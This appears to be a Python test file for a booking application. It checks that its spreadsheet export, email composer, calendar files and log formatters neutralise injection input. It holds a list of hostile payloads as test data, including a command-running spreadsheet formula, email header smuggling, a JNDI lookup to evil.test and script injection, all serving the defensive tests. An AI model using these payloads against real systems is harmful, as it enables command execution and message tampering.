"""Words that would be more than words somewhere else, written out and read back as somebody else's program would."""

# ruff: noqa: E501 - lists of odd things read better whole
import csv
import email
import email.policy
import io
import json
import logging
import unicodedata
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from uuid import UUID

import pytest
from icalendar import Calendar

from core import spreadsheet
from core.logs.events import AsJson, AsWords
from core.logs.requests import Lines
from core.notices.smtp import Outgoing, Postman
from plugins.booking.calendar_file import CalendarEntry, calendar_file

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+39 02 123", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1",
    "\u200b=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "'=1", '"=1"', '";=1', ";=1", "a;=1", "a\n=1", 'a"\r\n=1;"',
    "%0A=1", "|calc", "a\r\nBcc: c@d.test", "a\nSubject: other", "a\r\n\r\nbody", "a\x0bBcc: x", "a\x0cX: y", "a\u2028X: y",
    "a\u2029X: y", "a\x85X: y", "=?utf-8?q?=0D=0ABcc:_c@d.test?=", "a\r\nEND:VEVENT\r\nBEGIN:VEVENT", "a\nATTACH:http://evil.test",
    "a\\nDESCRIPTION:x", 'a;ALTREP="http://evil.test":b', "a,b;c:d", "\x1b[2J\x1b[31m", '"}\n{"event": "request"', "\x00", "a\x00b",
    "\u202egnp.exe", "{{7*7}}", "${jndi:ldap://evil.test}", "<script>alert(1)</script>", "%s%s%n", "a" * 3_000 + "\r\nX: y",
]  # fmt: skip
FORMULA = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
HEADERS = {
    "From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "Content-Type", "Content-Transfer-Encoding",
    "MIME-Version",
}  # fmt: skip
ID = UUID("01936e0a-0000-7000-8000-000000000001")


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 40


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for a formula, whatever stands unseen before it."""
    seen = "".join(c for c in cell if unicodedata.category(c) not in ("Cf", "Zs"))
    return seen[:1] in set(FORMULA) or unicodedata.normalize("NFKC", seen)[:1] in set("=+-@")


def cells(table: bytes) -> Iterator[list[str]]:
    return csv.reader(io.StringIO(table.decode("utf-8-sig"), newline=""), delimiter=";")


def test_no_cell_of_a_table_is_a_formula_and_none_becomes_two(
    record_property: Callable[[str, object], None],
) -> None:
    rows = list(cells(spreadsheet.table(PAYLOADS, [[word, 7, None] for word in PAYLOADS])))
    assert [len(row) for row in rows] == [len(PAYLOADS)] + [3] * len(PAYLOADS)
    running = [cell for row in rows for cell in row if cell and runs(cell)]
    record_property("trust", f"formulas {len(PAYLOADS)}/{len(running)}")
    assert not running
    assert all(word.strip("\x00") in row[0] for word, row in zip(PAYLOADS, rows[1:], strict=True))


def test_the_control_a_table_written_plainly_runs() -> None:
    plain = io.StringIO()
    csv.writer(plain, delimiter=";").writerows([[word] for word in PAYLOADS])
    assert sum(runs(row[0]) for row in cells(plain.getvalue().encode()) if row and row[0]) > 15


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_a_message_has_its_own_headers_and_no_other(number: int) -> None:
    word = PAYLOADS[number]
    letter = Outgoing(
        message_id=ID, recipient="a@b.test", subject=f"Promemoria {word}", body=f"Ciao {word}\n"
    )
    sent = Postman("smtp://x", "Diffuso <non-rispondere@b.test>").compose(letter).as_bytes()
    back = email.message_from_bytes(sent, policy=email.policy.default)
    assert set(back.keys()) == HEADERS
    assert len(back.keys()) == len(HEADERS), "each of them once"
    assert back["To"].addresses[0].addr_spec == "a@b.test" and len(back["To"].addresses) == 1
    assert not back.is_multipart() and not back.defects


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_an_address_cannot_be_more_than_one(number: int) -> None:
    letter = Outgoing(message_id=ID, recipient=f"a@b.test{PAYLOADS[number]}", subject="x", body="x")
    try:
        sent = Postman("smtp://x", "Diffuso <n@b.test>").compose(letter).as_bytes()
    except (ValueError, IndexError, email.errors.MessageError, UnicodeError):
        return
    back = email.message_from_bytes(sent, policy=email.policy.default)
    assert set(back.keys()) == HEADERS and len(back["To"].addresses) == 1


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_a_calendar_file_says_what_it_says(number: int) -> None:
    start = datetime(2026, 11, 23, 8, 30, tzinfo=UTC)
    entry = CalendarEntry(id=ID, start=start, end=start + timedelta(minutes=30), place=PAYLOADS[number])
    plain = CalendarEntry(id=ID, start=start, end=start + timedelta(minutes=30), place="Via Milano 1")
    made, usual = (list(parts(calendar_file(one, start))) for one in (entry, plain))
    assert set(made) <= set(usual), "no property that an ordinary file has not"
    assert len(made) <= len(usual)


def parts(file: bytes) -> Iterator[str]:
    """Every property of every part, with the names of its parameters."""
    (calendar,) = Calendar.from_ical(file, multiple=True)
    for part in calendar.walk():
        for name, value in part.property_items(recursive=False):
            yield f"{part.name} {name} {sorted(getattr(value, 'params', {}))}"


def test_an_event_is_one_line_of_the_log() -> None:
    for word in PAYLOADS:
        record = logging.LogRecord("core.x", logging.ERROR, "", 1, "said %s", (word,), None)
        told = AsJson().format(record)
        assert len(told.splitlines()) == 1 and json.loads(told).keys() == {"at", "level", "event", "logger"}
        assert "\x1b" not in told and "\x00" not in told
        assert len(AsWords().format(record).splitlines()) == 1


def test_a_request_is_one_line_of_the_log() -> None:
    out = io.BytesIO()
    lines = Lines(out)
    for word in PAYLOADS:
        lines.add("id", word, "GET", word, 200, 0.1)
    lines.stop()
    assert len(out.getvalue().decode("ascii").splitlines()) == len(PAYLOADS)
